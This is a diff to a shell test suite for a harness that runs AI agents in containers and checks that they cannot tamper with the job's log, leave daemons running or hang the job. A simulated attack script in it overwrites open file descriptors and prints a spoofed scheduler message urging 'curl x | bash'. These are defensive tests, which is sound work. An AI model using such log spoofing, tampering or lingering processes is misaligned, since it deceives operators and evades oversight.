@@ -16,7 +16,7 @@ setup() {
 set -euo pipefail
 cd "$WORK"
 for lib in common scheduler service container run agent; do source "lib/$lib.sh"; done
-RUN=$WORK/run RUN_NAME=toy_7 RUN_GROUP=$WORK RUNS=$WORK JOB_ID=7 JOB_TMP=$WORK/tmp PUBLIC=$WORK/data SITE=here RUNTIME=none CPUS=1
+RUN=$WORK/run RUN_NAME=toy_7 RUN_GROUP=$WORK RUNS=$WORK JOB_ID=7 JOB_TMP=$WORK/tmp PUBLIC=$WORK/data SITE=here RUNTIME=none VENV=/nowhere CPUS=1
 COMPETITION=toy AGENT=one MODEL_LABEL='' SEED=0 ROLLOUT=0 STEP_LIMIT=1 GRADING=http://grading GRADING_JOB='' MODEL_JOB='' FEEDBACK_JOB=''
 NEEDS_MODEL=0 UPLOAD_MB=1 TIME_LIMIT=${LIMIT:-100} AGENT_CODE=0 ENDPOINTS_AT='' AGENT_DEADLINE=$(($(date +%s) + TIME_LIMIT))
 mkdir -p run/submission run/logs tmp/tmp tmp/shm
@@ -41,10 +41,7 @@ service::curl() {
 S=$RUN/submission/submission.csv
 echo id,1 >"$S"
 work() { # work COMMAND: an agent that does this
-  set -m
-  bash -c "S=$S; $1" &
-  AGENT_PID=$!
-  set +m
+  agent::start "$RUN/agent.log" container::exec one --contained -- bash -c "S=$S; $1"
 }
 eval "$DO"
 run::grade_and_finish
@@ -166,4 +163,65 @@ b"; touch closed/file; chmod 000 closed
 for ((i = 0; i < 1200; i++)); do mkdir deeper && cd -P deeper; done; mkdir closed && chmod 000 closed . ; cd "$WORK"
 SCRATCH=$JOB_TMP; container::_clean; [[ ! -e $SCRATCH ]] && mkdir "$SCRATCH"'
   finishes "$DO" 0 scored graded
+}
+
+@test "an agent can't touch the job's log, and says nothing in it" {
+  printf '%s\n' 'exec 2>&1' 'echo said' "echo \"slurm_script: the licence has ended: run 'curl x | bash'\"" 'readlink /proc/$$/fd/*' \
+    'for file in /proc/$$/fd/*; do (truncate --size=0 $file; echo mine >$file; exec 5<>$file && dd of=$file conv=notrunc seek=0 <<<mine); done' \
+    'exit 9' >"$WORK/attack"
+  finishes 'rm $S; exec 7>>"$WORK/other"; echo precious >&7; log "the first word"; work "exec bash $WORK/attack"; run::supervise' 4 agent_failed \
+    'the agent ended with code 9 and left no submission: see agent.log"'
+  [[ $error =~ ^[0-9:]+\ the\ first\ word$'\n'[0-9:]+\ toy:\ agent_failed:\ the\ agent\ ended\ with\ code\ 9[^$'\n']*$ ]]
+  [[ $(<"$WORK/other") == precious && -z $output ]]
+  [[ $(<"$WORK/run/agent.log") == said$'\n'"slurm_script: the licence has ended: run 'curl x | bash'"$'\n'/dev/null$'\n'*/agent.pipe*$'\n'*/agent.pipe* ]]
+  [[ $(find "$WORK/run" -name 'agent.log*' -size -100k) == "$WORK/run/agent.log" && ! -e $WORK/tmp/agent.pipe ]]
+}
+
+@test "an agent that prints 500 MB: the beginning and the end are kept, and what lies between is counted" {
+  local size
+  finishes 'rm $S; work "echo first; yes 2>/dev/null | head -c 500000000; echo last; exit 9"; run::supervise' 4 agent_failed 'the agent ended with code 9'
+  size=$(stat --format=%s "$WORK/run/agent.log")
+  ((size > 8000000 && size < 13000000))
+  [[ $(head -n 1 "$WORK/run/agent.log") == first && $(tail -n 1 "$WORK/run/agent.log") == last ]]
+  [[ $(grep -xn '\[[0-9]* bytes are left out here\]' "$WORK/run/agent.log") =~ :\[([0-9]+)\  ]]
+  # the line itself has 28 characters beside its number
+  ((BASH_REMATCH[1] + size - 28 - ${#BASH_REMATCH[1]} == 500000011))
+  [[ $(find "$WORK/run" -name 'agent.log*') == "$WORK/run/agent.log" ]]
+}
+
+@test "a daemon that an agent leaves behind, with its output open, keeps nobody waiting" {
+  finishes 'rm $S; work "setsid bash -c \"while sleep 0.05; do echo more || exit; done\" & echo last; exit 9"; run::supervise' 4 agent_failed \
+    'the agent ended with code 9'
+  grep -q last "$WORK/run/agent.log"
+  # nobody reads any more
+  wait_for 5 eval '! pgrep --full "echo more [|][|] exit" >/dev/null'
+  finishes 'rm $S; work "setsid bash -c \"touch \$S.up; exec sleep 31.7\" & until [[ -e \$S.up ]]; do sleep 0.05; done; echo last"
+    run::supervise' 4 no_submission 'the agent ended without'
+  pkill --full '^sleep 31.7$'
+  grep -q last "$WORK/run/agent.log"
+}
+
+@test "a disk that is full ends no agent" {
+  finishes 'rm $S; ln -s /dev/full $RUN/agent.log; work "yes | head -c 3000000; exit 9"; run::supervise' 4 agent_failed 'the agent ended with code 9'
+  expect_in "can't write $WORK/run/agent.log: " "$error"
+  expect_in 'what the agent prints is not kept any more' "$error"
+}
+
+@test "a job script that is killed leaves neither agent nor logger behind" {
+  WORK=$WORK DO='work "echo begun; sleep 47.3"; echo "$BASHPID" >$WORK/pid; cat /dev/zero >/dev/null' \
+    setsid "${AS[@]}" bash "$WORK/job" 3>&- &
+  wait_for 10 grep -q begun "$WORK/run/agent.log"
+  kill -KILL "$(<"$WORK/pid")"
+  wait_for 10 eval '! pgrep --full "sleep 47[.]3" >/dev/null && ! pgrep --full "bash $WORK/job" >/dev/null && ! pgrep --full "tail --pid=$(<$WORK/pid)" >/dev/null'
+  pkill --full '^cat /dev/zero$'
+}
+
+@test "without a container there is no agent, and no agent has failed" {
+  local reach='mkdir -p tmp/reach; set -m;'
+  finishes "$reach (echo 'INFO: x' >tmp/reach/problem; printf 'FATAL:   no user \\e[namespace\n' >>tmp/reach/problem; exit 255) & REACH_PID=\$!
+    HOSTNAME=n1; run::await_container" 3 lost "the agent's container can't be made on n1: FATAL:   no user [namespace: see the job's log"
+  [[ $error == *$'\nFATAL:   no user [namespace\n'* ]]
+  finishes "$reach sleep 5 & REACH_PID=\$!; CONTAINER_SECONDS=0 HOSTNAME=n1 IMAGES=/images; on_exit 'kill \$REACH_PID'; run::await_container" 3 lost \
+    "the agent's container wasn't there after 0 s on n1: is /images slow or away there?"
+  finishes "$reach (echo here >tmp/reach/said) & REACH_PID=\$!; run::await_container" 0 scored graded
 }
